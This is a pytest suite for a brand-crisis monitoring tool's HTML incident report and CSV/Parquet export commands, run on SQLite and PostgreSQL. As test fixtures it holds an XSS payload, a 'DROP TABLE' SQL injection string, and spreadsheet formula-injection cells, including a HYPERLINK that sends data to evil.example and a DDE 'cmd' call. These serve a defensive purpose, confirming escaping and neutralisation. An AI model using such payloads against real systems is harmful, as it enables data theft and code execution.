"""`yujing report` and `yujing export` on a hand-built incident, on SQLite and PostgreSQL."""

from __future__ import annotations

import datetime as dt
import io
import json
import shutil
import subprocess

import pandas as pd
import pytest
from sqlalchemy import text

from warehouse.schema import (
    brand_responses,
    incidents,
    mentions,
    notifications,
    reposts,
    scores,
    spread_estimates,
    tracked_posts,
)
from yujing.export import export_main
from yujing.report import gather, render_report, report_main

T0 = dt.datetime(2026, 5, 1, 2, 0, tzinfo=dt.UTC)
HOSTILE = '沐沐奶粉有异物！<script>alert("x")</script> & <img src=x onerror=1>'


@pytest.fixture
def incident(warehouse):
    return _seed_incident(warehouse)


def _seed_incident(warehouse):
    with warehouse.begin() as conn:
        conn.execute(
            mentions.insert(),
            [
                {
                    "platform": "weibo",
                    "post_id": str(i),
                    "brand": "mumu",
                    "author_name": "宝妈<b>",
                    "author_followers": 5200,
                    "author_verified": False,
                    "text": HOSTILE if i == 1 else f"沐沐奶粉 帖子 {i}",
                    "created_at": T0 + dt.timedelta(minutes=10 * i),
                    "url": "https://weibo.com/1/1",
                    "raw": "{}",
                    "ingested_at": T0,
                    "is_competitor": False,
                }
                for i in range(1, 6)
            ],
        )
        conn.execute(
            scores.insert(),
            [
                {
                    "platform": "weibo",
                    "post_id": str(i),
                    "model_version": "m",
                    "sentiment": 0.1,
                    "negative": i < 4,
                    "complaint": i < 3,
                    "categories": '["safety"]',
                    "signals": '["regulator_legal"]',
                    "scored_at": T0,
                }
                for i in range(1, 6)
            ],
        )
        conn.execute(
            reposts.insert(),
            [
                {
                    "platform": "weibo",
                    "root_post_id": "1",
                    "repost_id": str(100 + k),
                    "parent_id": "1",
                    "created_at": T0 + dt.timedelta(minutes=12 + k),
                    "user_id": f"u{k}",
                    "followers": 1000 * k,
                    "verified": k % 7 == 0,
                }
                for k in range(60)
            ],
        )
        conn.execute(
            spread_estimates.insert(),
            [
                {
                    "platform": "weibo",
                    "post_id": "1",
                    "estimated_at": T0 + dt.timedelta(minutes=m),
                    "model_version": "s",
                    "observed": obs,
                    "predicted": obs * 20.0,
                    "low": obs * 10.0,
                    "high": obs * 40.0,
                    "p_viral": p,
                    "velocity_per_10min": 30.0,
                }
                for m, obs, p in [(20, 8, 0.2), (40, 28, 0.5), (60, 48, 0.8)]
            ],
        )
        conn.execute(
            incidents.insert().values(
                incident_id="mumu-abc",
                brand="mumu",
                platform="weibo",
                root_post_id="1",
                category="safety",
                level="critical",
                status="open",
                opened_at=T0 + dt.timedelta(minutes=20),
                updated_at=T0 + dt.timedelta(minutes=60),
                level_changed_at=T0 + dt.timedelta(minutes=40),
                last_growth_at=T0 + dt.timedelta(minutes=60),
                crossed_viral_at=T0 + dt.timedelta(hours=3),
                peak_p_viral=0.8,
                evidence=json.dumps({"categories": ["safety"], "signals": ["regulator_legal"]}),
            )
        )
        conn.execute(
            notifications.insert(),
            [
                {
                    "dedupe_key": f"mumu-abc:{ev}:{lv}:pr-slack",
                    "incident_id": "mumu-abc",
                    "event": ev,
                    "level": lv,
                    "receiver": "pr-slack",
                    "channel": "slack",
                    "status": "sent",
                    "attempts": 1,
                    "created_at": T0,
                    "sent_at": T0 + dt.timedelta(minutes=m),
                    "payload": "{}",
                }
                for ev, lv, m in [("open", "warning", 21), ("escalate", "critical", 41)]
            ],
        )
    return warehouse


def test_report_has_every_section_escaped_with_text_charts(incident, tmp_path):
    from yujing.config import load_config

    data = gather(incident, "mumu-abc")
    page = render_report(data, load_config())
    for heading in ("事件溯源", "传播趋势", "关键传播节点", "网民情绪", "类别与信号", "预警记录"):
        assert heading in page
    assert "<script>" not in page and "&lt;script&gt;" in page and "<img" not in page
    assert page.count("<svg") == 2 and "转发 reposts" in page  # chart text kept as text
    assert "159 分钟" in page  # first alert 21 min, viral line at 180 min
    out = tmp_path / "r.html"
    assert report_main(["mumu-abc", "--out", str(out)], engine=incident) == 0
    assert out.read_text(encoding="utf-8").startswith("<!doctype html>")
    assert report_main(["nope"], engine=incident) == 1


def test_report_gives_no_lead_time_for_a_post_past_the_line_when_first_seen(incident):
    """Its crossing time is only the first sighting: the alerts came after it crossed, by
    an unknown margin, so the report says so instead of a lead time."""
    from yujing.config import load_config

    with incident.begin() as conn:
        conn.execute(incidents.update().values(
            crossed_viral_at=T0 + dt.timedelta(minutes=20), crossed_before_seen=True))  # fmt: skip
    page = render_report(gather(incident, "mumu-abc"), load_config())
    assert "分钟 min" not in page  # no "-1 min" lead for the alert a minute after the sighting
    assert "already past it when first seen" in page


@pytest.mark.skipif(shutil.which("chromium") is None, reason="Debian's chromium not installed")
def test_report_renders_in_headless_chromium(incident, tmp_path):
    out = tmp_path / "r.html"
    report_main(["mumu-abc", "--out", str(out)], engine=incident)
    run = subprocess.run(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", out.as_uri()],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "关键传播节点" in run.stdout and "<svg" in run.stdout
    shot = tmp_path / "r.png"
    subprocess.run(
        [
            "chromium",
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            f"--screenshot={shot}",
            "--window-size=1000,2400",
            out.as_uri(),
        ],
        capture_output=True,
        timeout=120,
    )
    assert shot.exists() and shot.stat().st_size > 10_000


def test_export_views_to_csv_and_parquet(incident, tmp_path):
    buffer = io.StringIO()
    assert export_main(["v_mentions_daily"], engine=incident, stdout=buffer) == 0
    frame = pd.read_csv(io.StringIO(buffer.getvalue()))
    assert frame["mentions"].sum() == 5
    parquet = tmp_path / "timeline.parquet"
    assert (
        export_main(
            ["v_incident_timeline", "--format", "parquet", "--out", str(parquet)], engine=incident
        )
        == 0
    )
    timeline = pd.read_parquet(parquet)
    assert set(timeline["event"]) >= {"opened", "notified:open", "crossed_viral"}
    assert export_main(["mentions; DROP TABLE mentions"], engine=incident) == 2
    assert export_main(["v_mentions_daily", "--format", "parquet"], engine=incident) == 2


def test_unwritable_output_and_unmigrated_warehouse_are_one_line_errors(incident, tmp_path, capsys):
    """A folder or a missing folder as --out, or a warehouse never upgraded, is a user
    error named in one line before any query, not a traceback."""
    from warehouse.db import make_engine

    for out, why in ((tmp_path, "is a folder"), (tmp_path / "no" / "x.html", "no such folder")):
        for run in (
            lambda out=out: report_main(["mumu-abc", "--out", str(out)], engine=incident),
            lambda out=out: export_main(["v_mentions_daily", "--out", str(out)], engine=incident),
            lambda out=out: export_main(
                ["v_mentions_daily", "--format", "parquet", "--out", str(out)], engine=incident
            ),
        ):
            assert run() == 2
            err = capsys.readouterr().err
            assert f"cannot write {out}: " in err and why in err and err.count("\n") == 1
    assert not (tmp_path / "no").exists()

    fresh = make_engine(f"sqlite:///{tmp_path / 'never-upgraded.db'}")
    try:
        assert export_main(["v_mentions_daily"], engine=fresh, stdout=io.StringIO()) == 2
        assert "run `yujing db upgrade`" in capsys.readouterr().err
        assert report_main(["mumu-abc", "--out", str(tmp_path / "r.html")], engine=fresh) == 2
        assert "run `yujing db upgrade`" in capsys.readouterr().err
    finally:
        fresh.dispose()


def test_export_help_offers_no_sql(capsys):
    with pytest.raises(SystemExit):
        export_main(["--help"])
    assert "--where" not in capsys.readouterr().out


FORMULAS = {  # post id: (author, text); every one a cell a spreadsheet would evaluate
    "6": ("宝妈", '=HYPERLINK("http://evil.example/?leak="&A1,"沐沐奶粉官方退款通道")'),
    "7": ("@SUM(1+1)*cmd|' /C calc'!A0", "沐沐奶粉有异物"),
    "8": ("-2+3", "+86 138 0000 0000 沐沐奶粉客服不理人"),
    "9": ("\t=1+1", "\r=1+1 沐沐奶粉"),
}


def _tracked_formula_posts(engine):
    """Tracked complaints whose author names and texts start like formulas, one with a
    negative sentiment number (a number, never a formula to neutralise)."""
    from warehouse.schema import tracked_posts

    with engine.begin() as conn:
        for post_id, (author, body) in FORMULAS.items():
            conn.execute(
                mentions.insert().values(
                    platform="weibo", post_id=post_id, brand="mumu", author_name=author,
                    author_followers=10, author_verified=False, text=body, created_at=T0,
                    url=f"https://weibo.com/1/{post_id}", raw="{}", ingested_at=T0,
                    is_competitor=False,
                )
            )  # fmt: skip
            conn.execute(
                scores.insert().values(
                    platform="weibo", post_id=post_id, model_version="m", sentiment=-0.25,
                    negative=True, complaint=True, categories="[]", signals="[]", scored_at=T0,
                )
            )  # fmt: skip
            conn.execute(
                tracked_posts.insert().values(
                    platform="weibo", post_id=post_id, brand="mumu", state="hot", created_at=T0,
                    tracked_since=T0, next_check_at=T0,
                )
            )  # fmt: skip


def test_csv_export_neutralises_formula_cells_once_with_a_bom(incident, tmp_path, monkeypatch):
    """Text cells that start with = + - @ tab or CR get a leading ' (OWASP), numbers stay
    numbers, and the file starts with one UTF-8 BOM however many chunks it streams in."""
    import csv

    import yujing.export

    _tracked_formula_posts(incident)
    monkeypatch.setattr(yujing.export, "CHUNK", 2)  # four rows: two chunks
    out = tmp_path / "top.csv"
    assert export_main(["v_top_complaints", "--out", str(out)], engine=incident) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = {r["post_id"]: r for r in csv.DictReader(f)}
    assert rows.keys() == FORMULAS.keys()
    for post_id, (author, body) in FORMULAS.items():
        safe = lambda s: "'" + s if s[0] in "=+-@\t\r" else s  # noqa: E731
        assert (rows[post_id]["author_name"], rows[post_id]["excerpt"]) == (
            safe(author),
            safe(body),
        )
        assert float(rows[post_id]["sentiment"]) == -0.25  # a negative number is untouched
    assert rows["7"]["excerpt"] == "沐沐奶粉有异物" and rows["6"]["author_name"] == "宝妈"
    cells = [c for r in rows.values() for c in r.values()]
    risky = [c for c in cells if c[:1] and c[0] in "=+-@\t\r" and c != "-0.25"]
    assert not risky
    # stdout (a pipe) gets the same cells, without the BOM
    buffer = io.StringIO()
    assert export_main(["v_top_complaints"], engine=incident, stdout=buffer) == 0
    assert not buffer.getvalue().startswith("\ufeff")
    assert "'=HYPERLINK(" in buffer.getvalue() and "'-2+3" in buffer.getvalue()
    # parquet keeps the raw text
    parquet = tmp_path / "top.parquet"
    assert export_main(["v_top_complaints", "--format", "parquet", "--out", str(parquet)],
                       engine=incident) == 0  # fmt: skip
    frame = pd.read_parquet(parquet).set_index("post_id")
    assert frame.loc["8", "author_name"] == "-2+3" and frame.loc["6", "excerpt"].startswith("=")


def test_report_first_alert_is_the_first_that_paged_someone(incident):
    """A watch-level outbox record (nobody paged) and a brand-answered note are in the
    alert log, marked as records, but the first alert is the first page (Slack, 21 min)."""
    from yujing.config import load_config

    with incident.begin() as conn:
        conn.execute(
            notifications.insert(),
            [
                {
                    "dedupe_key": f"mumu-abc:{ev}:{lv}:{rcv}",
                    "incident_id": "mumu-abc",
                    "event": ev,
                    "level": lv,
                    "receiver": rcv,
                    "channel": ch,
                    "status": "sent",
                    "attempts": 1,
                    "created_at": T0,
                    "sent_at": T0 + dt.timedelta(minutes=m),
                    "payload": "{}",
                }
                for ev, lv, rcv, ch, m in [
                    ("open", "watch", "outbox", "outbox", 5),
                    ("answered", None, "pr-slack", "slack", 15),
                ]
            ],
        )
    page = render_report(gather(incident, "mumu-abc"), load_config())
    assert "<th>首次预警 First alert</th><td>2026-05-01 10:21</td>" in page
    assert "<th>首次记录 First record</th><td>2026-05-01 10:05</td>" in page
    assert "outbox (仅记录 record only)" in page


def _seed_every_view(engine):
    """The hand-built incident plus tracked complaints, answered and not, a competitor and
    a post naming two brands: every column of every view has a value somewhere."""
    _seed_incident(engine)
    with engine.begin() as conn:
        conn.execute(
            mentions.insert(),
            [
                {
                    "platform": "weibo", "post_id": "1", "brand": b, "author_name": "宝妈<b>",
                    "author_followers": 5200, "author_verified": False, "text": "快鲜 沐沐",
                    "created_at": T0 + dt.timedelta(minutes=10), "url": "https://weibo.com/1/1",
                    "raw": "{}", "ingested_at": T0, "is_competitor": True,
                }
                for b in ("kuaixian",)
            ],
        )  # fmt: skip
        conn.execute(
            tracked_posts.insert(),
            [
                {
                    "platform": "weibo", "post_id": str(i), "brand": "mumu", "state": "hot",
                    "created_at": T0, "tracked_since": T0, "next_check_at": T0,
                }
                for i in (1, 2)
            ],
        )  # fmt: skip
        conn.execute(
            brand_responses.insert(),
            [
                {
                    "platform": "weibo", "post_id": str(i), "brand": "mumu", "checked_at": T0,
                    "comments_seen": 3, "responded_at": at, "response_id": "c", "responder_uid":
                    "5503128761", "responder_name": "沐沐奶粉官方微博", "response_text": "已私信",
                }
                for i, at in ((1, T0 + dt.timedelta(minutes=47, seconds=3)), (2, None))
            ],
        )  # fmt: skip


def test_export_gives_the_same_types_and_values_on_both_backends(
    sqlite_engine, pg_engine, tmp_path
):
    """Every view exported to Parquet from SQLite and from PostgreSQL: the same columns,
    dtypes and values; timestamps UTC-aware, counts nullable integers (Int64)."""
    from warehouse.views import view_files, view_name

    for engine in (sqlite_engine, pg_engine):
        _seed_every_view(engine)
    for view in [view_name(p) for p in view_files()]:
        frames = {}
        for name, engine in (("sqlite", sqlite_engine), ("postgresql", pg_engine)):
            out = tmp_path / f"{name}-{view}.parquet"
            assert export_main([view, "--format", "parquet", "--out", str(out)], engine=engine) == 0
            frame = pd.read_parquet(out)
            frames[name] = frame.sort_values(list(frame.columns[:4])).reset_index(drop=True)
        lite, pg = frames["sqlite"], frames["postgresql"]
        assert len(lite) > 0, view
        assert dict(lite.dtypes.astype(str)) == dict(pg.dtypes.astype(str)), view
        for column, dtype in lite.dtypes.items():
            assert str(dtype) != "int64", f"{view}.{column} is not nullable"
            if column == "at" or column.endswith("_at"):
                assert str(dtype) == "datetime64[us, UTC]", f"{view}.{column}: {dtype}"
        pd.testing.assert_frame_equal(lite, pg, check_exact=False, rtol=1e-12, obj=view)
    daily = pd.read_parquet(tmp_path / "postgresql-v_brand_benchmark_daily.parquet")
    assert str(daily["mentions"].dtype) == "Int64" and str(daily["complaints"].dtype) == "Int64"
    timeline = pd.read_parquet(tmp_path / "sqlite-v_incident_timeline.parquet")
    assert timeline["at"].dt.tz_convert("Asia/Shanghai").min().hour == 10  # opened 10:20


def test_alert_outcomes_from_the_real_alert_stage(warehouse, tmp_path):
    """The escalation stage with the shipped routing: a watch-level incident (outbox only)
    is no alert; the one escalated to warning (pages pr-slack) has its first alert then,
    in v_alert_outcomes and in the report alike."""
    import re

    from alerts.stage import deliver_pending, run_escalation
    from warehouse.schema import tracked_posts
    from yujing.clock import ManualClock
    from yujing.config import load_config, parse_config

    raw = load_config().model_dump(by_alias=True, exclude_none=True)
    raw["levels"].update(
        {
            "watch": {"p_viral": 0.15, "velocity_per_10min": 20},
            "warning": {"p_viral": 0.35, "velocity_per_10min": 60},
            "critical": {"p_viral": 0.6, "velocity_per_10min": 150},
        }
    )
    config = parse_config(raw)

    class Channel:
        def __init__(self):
            self.sent = []

        def send(self, note):
            self.sent.append(note)
            return f"x{len(self.sent)}"

    channels = {r.name: Channel() for r in config.receivers}

    def estimate(conn, pid, at, observed, p_viral, velocity=5.0):
        conn.execute(
            spread_estimates.insert().values(
                platform="weibo", post_id=pid, estimated_at=at, model_version="s",
                observed=observed, predicted=observed * 3.0, low=observed * 2.0,
                high=observed * 5.0, p_viral=p_viral, velocity_per_10min=velocity,
            )
        )  # fmt: skip

    texts = {"A": "沐沐奶粉有异物，罐子里有虫", "B": "沐沐金装客服电话一直打不通，退款拖了一个月"}
    with warehouse.begin() as conn:
        for pid, body in texts.items():
            conn.execute(
                mentions.insert().values(
                    platform="weibo", post_id=pid, brand="mumu", author_name="u",
                    author_followers=100, author_verified=False, text=body,
                    created_at=T0 - dt.timedelta(hours=1), raw="{}", ingested_at=T0,
                    is_competitor=False,
                )
            )  # fmt: skip
            conn.execute(
                scores.insert().values(
                    platform="weibo", post_id=pid, model_version="m", sentiment=0.1,
                    negative=True, complaint=True, signals="[]", scored_at=T0,
                    categories='["quality"]' if pid == "A" else '["refund"]',
                )
            )  # fmt: skip
            conn.execute(
                tracked_posts.insert().values(
                    platform="weibo", post_id=pid, brand="mumu", state="hot",
                    created_at=T0 - dt.timedelta(hours=1), tracked_since=T0, next_check_at=T0,
                )
            )  # fmt: skip
            estimate(conn, pid, T0, 50, 0.2)  # watch: outbox only
    clock = ManualClock(T0)
    run_escalation(warehouse, config, clock)
    deliver_pending(warehouse, config, clock, channels)
    for hours, observed in ((3, 400), (4, 1200)):  # A: warning at 3 h, viral at 4 h
        clock.set(T0 + dt.timedelta(hours=hours))
        with warehouse.begin() as conn:
            estimate(conn, "A", clock.now(), observed, 0.4)
            estimate(conn, "B", clock.now(), 50, 0.2, velocity=25.0)
        run_escalation(warehouse, config, clock)
        deliver_pending(warehouse, config, clock, channels)
    hour = lambda t: None if t is None else pd.Timestamp(t).hour  # noqa: E731
    with warehouse.connect() as conn:
        rows = conn.execute(
            text(
                "SELECT root_post_id, first_alert_at, went_viral, lead_minutes "
                "FROM v_alert_outcomes ORDER BY root_post_id"
            )
        ).all()
    # A was seen at 400 at 3 h and 1,200 at 4 h: it crossed 1,000 at 3:45, 45 minutes after
    # the warning page (not at 4 h, when the run noticed it)
    assert [(p, hour(f), v, m) for p, f, v, m in rows] == [("A", 5, 1, 45.0), ("B", None, 0, None)]
    with warehouse.connect() as conn:
        rows = conn.execute(
            text(
                "SELECT root_post_id, first_alert_at, first_recorded_at, alerted, "
                "went_viral, lead_minutes FROM v_alert_outcomes ORDER BY root_post_id"
            )
        ).all()
    assert [(p, hour(f), hour(r), a, v, m) for p, f, r, a, v, m in rows] == [
        ("A", 5, 2, 1, 1, 45.0),
        ("B", None, 2, 0, 0, None),
    ]
    with warehouse.connect() as conn:
        incident = conn.execute(
            text("SELECT incident_id FROM incidents WHERE root_post_id = 'A'")
        ).scalar_one()
    out = tmp_path / "a.html"
    assert report_main([incident, "--out", str(out)], engine=warehouse) == 0
    page = out.read_text(encoding="utf-8")
    assert re.search(r"First alert</th><td>([^<]*)", page).group(1) == "2026-05-01 13:00"
    assert re.search(r"First record</th><td>([^<]*)", page).group(1) == "2026-05-01 10:00"


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_an_export_that_fails_half_way_leaves_the_previous_file_whole(
    incident, tmp_path, monkeypatch, fmt
):
    # Fault injection (a database dropping the connection mid-stream cannot be staged
    # here): the typing step raises after the file was opened. The analyst's previous
    # export must stay as it was, with no truncated file or leftover beside it.
    import yujing.export

    (tmp_path / "exports").mkdir()
    out = tmp_path / "exports" / f"mentions.{fmt}"
    assert (
        export_main(["v_mentions_daily", "--format", fmt, "--out", str(out)], engine=incident) == 0
    )
    before = out.read_bytes()

    def broken(frame, kinds):
        raise ValueError("connection lost")

    monkeypatch.setattr(yujing.export, "typed", broken)
    with pytest.raises(ValueError):
        export_main(["v_mentions_daily", "--format", fmt, "--out", str(out)], engine=incident)
    assert out.read_bytes() == before
    assert sorted(p.name for p in out.parent.iterdir()) == [out.name]


def test_an_empty_export_has_the_schema_of_a_full_one(warehouse, tmp_path):
    """A daily Parquet export appended by a reader: a quiet day (no rows) must give the
    same Arrow schema as a busy one, not type `null` for its text and number columns."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from warehouse.views import view_files, view_name

    views = [view_name(p) for p in view_files()]

    def schemas(tag):
        found = {}
        for view in views:
            out = tmp_path / f"{tag}-{view}.parquet"
            args = [view, "--format", "parquet", "--out", str(out)]
            assert export_main(args, engine=warehouse) == 0
            found[view] = (pq.read_schema(out), pq.read_table(out).num_rows)
        return found

    empty = schemas("empty")
    _seed_every_view(warehouse)
    full = schemas("full")
    for view in views:
        schema, rows = empty[view]
        assert rows == 0, view
        nulls = [f.name for f in schema if pa.types.is_null(f.type)]
        assert not nulls, f"{view}: type null for {nulls}"
        assert full[view][1] > 0, view
        assert [(f.name, f.type) for f in schema] == [(f.name, f.type) for f in full[view][0]], view
